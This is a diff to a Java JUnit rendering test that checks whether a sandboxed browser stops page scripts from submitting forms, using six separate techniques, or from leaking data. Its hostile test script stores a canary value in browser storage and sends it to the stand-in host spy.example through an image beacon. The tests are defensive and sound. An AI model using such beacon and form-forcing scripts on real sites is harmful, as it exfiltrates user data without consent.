@@ -19,8 +19,10 @@ import java.io.IOException;
 import java.io.InputStream;
 import java.lang.reflect.InvocationTargetException;
 import java.lang.reflect.Method;
+import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.TreeMap;
 import org.junit.jupiter.api.Test;
 
 /** Pages as a browser shows them, by the browser of this machine and by one that misbehaves. */
@@ -38,12 +40,6 @@ class RenderingTest {
       sessionStorage.setItem('step', 'canary-4711');
       indexedDB.open('mails');
       new Image().src = 'http://spy.example:' + location.port + '/p?u=canary-4711';
-      const form = document.getElementById('join');
-      form.submit();
-      form.requestSubmit();
-      form.querySelector('button').click();
-      const frame = document.body.appendChild(document.createElement('iframe'));
-      frame.contentWindow.HTMLFormElement.prototype.submit.call(form);
       """;
 
   @Test
@@ -76,8 +72,40 @@ class RenderingTest {
                 "INDEXED_DB mails", "LOCAL_STORAGE cart", "SESSION_STORAGE step");
         assertThat(witness.gaps()).isEmpty();
         assertThat(witness.toString()).doesNotContain(CANARY);
-        assertThat(site.asked()).contains("GET /p").noneMatch(each -> each.contains("/send"));
+        assertThat(site.asked()).contains("GET /p");
       }
+    }
+  }
+
+  /** Each way has a page and a form of its own, so that one that is open is seen by its name. */
+  @Test
+  void noFormIsSentWhateverScriptsDo() throws Exception {
+    Map<String, String> ways =
+        new TreeMap<>(
+            Map.of(
+                "call", "form.submit()",
+                "ask", "form.requestSubmit()",
+                "click", "form.querySelector('button').click()",
+                "event", "form.querySelector('button').dispatchEvent(new MouseEvent('click'))",
+                "elsewhere", "form.target = '_blank'; form.submit()",
+                "frame",
+                    "document.body.appendChild(document.createElement('iframe')).contentWindow"
+                        + ".HTMLFormElement.prototype.submit.call(form)"));
+    Map<String, String> pages = new HashMap<>();
+    ways.forEach(
+        (way, script) ->
+            pages.put(
+                "/" + way,
+                "<title>x</title><form action=/sent/%s method=post><button>Go</button></form><script>const form = document.forms[0]; %s</script>"
+                    .formatted(way, script)));
+    try (Loopback site = new Loopback(pages);
+        Window window = window()) {
+      for (String way : ways.keySet()) {
+        window.view(Address.of(site.address() + way));
+      }
+      assertThat(site.asked())
+          .containsAll(ways.keySet().stream().map(way -> "GET /" + way).toList())
+          .noneMatch(each -> each.contains("/sent/"));
     }
   }
 
